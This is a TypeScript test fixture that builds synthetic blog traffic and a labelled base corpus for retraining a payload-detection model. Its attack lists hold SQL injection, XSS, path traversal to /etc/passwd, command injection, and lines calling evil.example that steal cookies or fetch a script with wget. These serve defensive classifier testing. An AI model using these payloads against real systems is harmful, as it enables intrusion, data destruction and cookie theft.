/**
 * A small blog app's traffic for the retraining tests: benign searches and comments, rich-text posts
 * (HTML in `content`, the field a payload model trained on generic data flags), and attacks; plus a
 * small base corpus of labelled texts that has no rich text in its benign half — the situation in which
 * an app's own traffic teaches the model something the base corpus could not.
 */
import { seededRandom } from '../../src/model/prng.js';

const WORDS = 'release cache startup docs api team update fix bug search index query page user account order report invoice shipping garden recipe travel music photo weather football budget meeting notes draft review'.split(' ');
const NAMES = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy'];
const TAGS = [
  ['<p>', '</p>'],
  ['<b>', '</b>'],
  ['<i>', '</i>'],
  ['<em>', '</em>'],
  ['<strong>', '</strong>'],
  ['<li>', '</li>'],
];

export type Pick = <T>(xs: readonly T[]) => T;

export function picker(seed: number): { pick: Pick; random: () => number } {
  const random = seededRandom(seed);
  return { random, pick: <T>(xs: readonly T[]): T => xs[Math.floor(random() * xs.length)] };
}

export function sentence(pick: Pick, n: number): string {
  return Array.from({ length: n }, () => pick(WORDS)).join(' ');
}

export function richText(pick: Pick): string {
  const parts: string[] = [];
  for (let i = 0; i < 3; i++) {
    const [open, close] = pick(TAGS);
    parts.push(`${open}${sentence(pick, 3)}${close} ${sentence(pick, 2)}`);
  }
  return `<p>${parts.join(' ')} <a href="/docs/${pick(WORDS)}">${pick(WORDS)}</a>.</p>`;
}

export const ATTACKS = [
  "' OR '1'='1' --",
  '1 UNION SELECT username, password FROM users--',
  "admin'; DROP TABLE users; --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '../../../../etc/passwd',
  '; cat /etc/passwd',
  '1; SELECT SLEEP(5)--',
  '"><script>fetch("//evil.example/?c="+document.cookie)</script>',
];

/** Labelled texts for the base model: generic benign values and attacks of the usual families. */
export function baseCorpus(seed: number): { text: string; label: 'attack' | 'benign'; group: string }[] {
  const { pick, random } = picker(seed);
  const out: { text: string; label: 'attack' | 'benign'; group: string }[] = [];
  for (let i = 0; i < 300; i++) {
    const kind = i % 5;
    const text =
      kind === 0 ? sentence(pick, 1 + Math.floor(random() * 5))
      : kind === 1 ? `${pick(NAMES)}@example.com`
      : kind === 2 ? `${pick(NAMES)} ${pick(NAMES)}'s ${pick(WORDS)} (${Math.floor(random() * 100)})`
      : kind === 3 ? `${sentence(pick, 4)}, ${sentence(pick, 3)}; ${sentence(pick, 2)}!`
      : `${Math.floor(random() * 100000)}-${pick(WORDS)}`;
    out.push({ text, label: 'benign', group: 'generic' });
  }
  const templates = [
    (w: string) => `' OR '${w}'='${w}`,
    (w: string) => `1 UNION SELECT ${w}, password FROM users--`,
    (w: string) => `${w}' AND SLEEP(5)--`,
    (w: string) => `<script>alert('${w}')</script>`,
    (w: string) => `<img src=x onerror=alert('${w}')>`,
    (w: string) => `<svg/onload=alert('${w}')>`,
    (w: string) => `<b onmouseover=alert('${w}')>${w}</b>`,
    (w: string) => `<p><a href="javascript:alert('${w}')">${w}</a></p>`,
    (w: string) => `<iframe src="//evil.example/${w}"></iframe>`,
    (w: string) => `../../../${w}/../etc/passwd`,
    (w: string) => `<p>${w}</p><script>alert(1)</script>`,
    (w: string) => `<strong>${w}</strong><img src=x onerror=alert(1)>`,
    (w: string) => `<em>${w}</em>"><svg onload=alert(1)>`,
    (w: string) => `<li>${w}</li><iframe src=javascript:alert(1)>`,
    (w: string) => `; cat /etc/passwd #${w}`,
    (w: string) => `| wget http://evil.example/${w}.sh`,
  ];
  for (let i = 0; i < 300; i++) out.push({ text: templates[i % templates.length](pick(WORDS)), label: 'attack', group: 'generic' });
  return out;
}
